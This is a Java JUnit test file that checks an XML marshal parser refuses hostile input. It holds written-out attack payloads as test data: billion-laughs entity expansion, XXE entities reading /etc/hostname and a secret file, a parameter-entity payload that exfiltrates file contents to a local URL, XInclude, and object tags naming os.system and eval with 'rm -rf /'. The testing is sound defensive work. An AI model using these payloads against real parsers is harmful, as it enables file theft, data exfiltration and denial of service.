package org.slapdesk.core.wire;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicReference;
import javax.xml.parsers.DocumentBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile documents: each is refused with a clear message and no file content ever shows. */
class SafeXmlTest {

    @TempDir
    Path dir;

    private Path secretFile() throws Exception {
        Path secret = dir.resolve("secret.txt");
        Files.writeString(secret, "TOP-SECRET-CONTENT");
        return secret;
    }

    private static void refusedAsDoctype(String xml) {
        Throwable thrown = catchThrowable(() -> XmlMarshal.loads(xml));
        assertThat(thrown)
                .isInstanceOf(MarshalException.class)
                .hasMessageContaining("DOCTYPE declaration, which is refused");
        assertNoSecret(thrown);
    }

    private static void assertNoSecret(Throwable thrown) {
        for (Throwable t = thrown; t != null; t = t.getCause()) {
            assertThat(String.valueOf(t.getMessage()))
                    .doesNotContain("TOP-SECRET")
                    .doesNotContain(hostname());
        }
    }

    private static String hostname() {
        try {
            String name = Files.readString(Path.of("/etc/hostname")).strip();
            // a very short host name (like "vm") could appear in any message by chance
            return name.length() < 6 ? "\u0000no-hostname" : name;
        } catch (Exception e) {
            return "\u0000no-hostname";
        }
    }

    @Test
    void billionLaughs() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE marshal [\n<!ENTITY lol \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            xml.append("<!ENTITY lol").append(i).append(" \"");
            for (int j = 0; j < 10; j++) {
                xml.append("&lol").append(i == 1 ? "" : String.valueOf(i - 1)).append(';');
            }
            xml.append("\">\n");
        }
        xml.append("]>\n<marshal><string>&lol9;</string></marshal>");
        refusedAsDoctype(xml.toString());
    }

    @Test
    void externalEntityToALocalFile() throws Exception {
        refusedAsDoctype("<?xml version=\"1.0\"?><!DOCTYPE marshal [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>"
                + "<marshal><string>&xxe;</string></marshal>");
        refusedAsDoctype("<!DOCTYPE marshal [<!ENTITY xxe SYSTEM \""
                + secretFile().toUri() + "\">]>" + "<marshal><string>&xxe;</string></marshal>");
    }

    @Test
    void externalDtd() throws Exception {
        Path dtd = dir.resolve("evil.dtd");
        Files.writeString(dtd, "<!ENTITY leak SYSTEM \"" + secretFile().toUri() + "\">");
        refusedAsDoctype("<!DOCTYPE marshal SYSTEM \"" + dtd.toUri() + "\"><marshal><string>&leak;</string></marshal>");
        refusedAsDoctype(
                "<!DOCTYPE marshal PUBLIC \"-//X//Y\" \"http://127.0.0.1:9/evil.dtd\"><marshal><none/></marshal>");
    }

    @Test
    void parameterEntities() throws Exception {
        refusedAsDoctype(
                "<!DOCTYPE marshal [<!ENTITY % file SYSTEM \"" + secretFile().toUri() + "\">"
                        + "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>\">%eval;%exfil;]>"
                        + "<marshal><none/></marshal>");
    }

    @Test
    void undeclaredEntitiesAndXIncludeAreNotResolved() throws Exception {
        Throwable undeclared = catchThrowable(() -> XmlMarshal.loads("<marshal><string>&xxe;</string></marshal>"));
        assertThat(undeclared).isInstanceOf(MarshalException.class).hasMessageContaining("not well-formed");
        Throwable xinclude = catchThrowable(
                () -> XmlMarshal.loads("<marshal xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\""
                        + secretFile().toUri() + "\" parse=\"text\"/></marshal>"));
        assertThat(xinclude)
                .isInstanceOf(MarshalException.class)
                .hasMessageContaining("unsupported marshal tag <xi:include>");
        assertNoSecret(xinclude);
    }

    @Test
    void objectsOutsideTheFourSlapClassesAreRefused() {
        for (String attrs : List.of(
                "module=\"os\" class=\"system\"",
                "module=\"slapos.slap.slap\" class=\"OpenOrder\"",
                "module=\"builtins\" class=\"eval\"",
                "class=\"Computer\"")) {
            assertThatThrownBy(() -> XmlMarshal.loads("<marshal><object id=\"i2\" " + attrs
                            + "><tuple><string>rm -rf /</string></tuple><none/></object></marshal>"))
                    .isInstanceOf(MarshalException.class)
                    .hasMessageContaining("only the four slap classes are accepted");
        }
        assertThatThrownBy(() -> new SlapObject("OpenOrder", List.of(), null))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void deepNestingIsRefusedWithoutExhaustingTheStack() throws Exception {
        int deep = 100_000;
        String hostile = "<marshal>" + "<list id=\"i2\">".repeat(deep) + "</list>".repeat(deep) + "</marshal>";
        assertThatThrownBy(() -> XmlMarshal.loads(hostile))
                .isInstanceOf(MarshalException.class)
                .hasMessageContaining("more than " + XmlMarshal.MAX_DEPTH + " levels deep");
        int fine = XmlMarshal.MAX_DEPTH - 1;
        String legal = "<marshal>" + "<tuple>".repeat(fine) + "<none/>" + "</tuple>".repeat(fine) + "</marshal>";
        assertThat(XmlMarshal.loads(legal)).isInstanceOf(Tuple.class);
    }

    @Test
    void cyclesAreRefusedButSharingIsNot() throws Exception {
        assertThatThrownBy(() -> XmlMarshal.loads("<marshal><list id=\"i2\"><reference id=\"i2\"/></list></marshal>"))
                .isInstanceOf(MarshalException.class)
                .hasMessageContaining("cyclic values are refused");
        assertThatThrownBy(() -> XmlMarshal.loads("<marshal><dictionary id=\"i2\"><string>a</string><list id=\"i3\">"
                        + "<reference id=\"i2\"/></list></dictionary></marshal>"))
                .hasMessageContaining("cyclic");
        Object shared =
                XmlMarshal.loads("<marshal><list id=\"i2\"><list id=\"i3\"/><reference id=\"i3\"/></list></marshal>");
        assertThat(((List<?>) shared).get(0)).isSameAs(((List<?>) shared).get(1));
    }

    @Test
    void malformedDocumentsGetAPlainMessage() {
        assertThatThrownBy(() -> XmlMarshal.loads("<html><body>502 Bad Gateway</body></html>"))
                .hasMessageContaining("expected a <marshal> document, found <html>");
        assertThatThrownBy(() -> XmlMarshal.loads("<marshal><string>cut")).hasMessageContaining("not well-formed");
        assertThatThrownBy(() -> XmlMarshal.loads("<marshal><reference id=\"i9\"/></marshal>"))
                .hasMessageContaining("names no earlier container");
        assertThatThrownBy(() -> XmlMarshal.loads("<marshal><int>12a</int></marshal>"))
                .hasMessageContaining("integer");
        assertThatThrownBy(() -> XmlMarshal.loads("")).isInstanceOf(MarshalException.class);
    }

    @Test
    void eachThreadReusesOneBuilderAndItStillRefusesADoctype() throws Exception {
        String doctype = "<!DOCTYPE marshal [<!ENTITY xxe SYSTEM \""
                + secretFile().toUri() + "\">]>" + "<marshal><string>&xxe;</string></marshal>";
        DocumentBuilder builder = SafeXml.builderOfThisThread();
        for (int round = 0; round < 3; round++) {
            assertThat(XmlMarshal.loads("<marshal><string>fine " + round + "</string></marshal>"))
                    .isEqualTo("fine " + round);
            refusedAsDoctype(doctype);
            assertThatThrownBy(() -> XmlMarshal.loads("<marshal><string>cut")).hasMessageContaining("not well-formed");
            refusedAsDoctype(doctype);
        }
        assertThat(SafeXml.builderOfThisThread()).isSameAs(builder);
        AtomicReference<Object> other = new AtomicReference<>();
        Thread thread = new Thread(() -> other.set(SafeXml.builderOfThisThread()));
        thread.start();
        thread.join();
        assertThat(other.get()).isNotNull().isNotSameAs(builder);
    }

    @Test
    void threadsParsingAtOnceGetTheirOwnDocuments() throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<Boolean>> results = new ArrayList<>();
            for (int t = 0; t < 4; t++) {
                int thread = t;
                results.add(pool.submit(() -> {
                    for (int i = 0; i < 500; i++) {
                        String text = thread + "-" + i;
                        if (!text.equals(XmlMarshal.loads("<marshal><string>" + text + "</string></marshal>"))) {
                            return false;
                        }
                    }
                    return true;
                }));
            }
            for (Future<Boolean> result : results) {
                assertThat(result.get()).isTrue();
            }
        } finally {
            pool.shutdownNow();
        }
    }
}
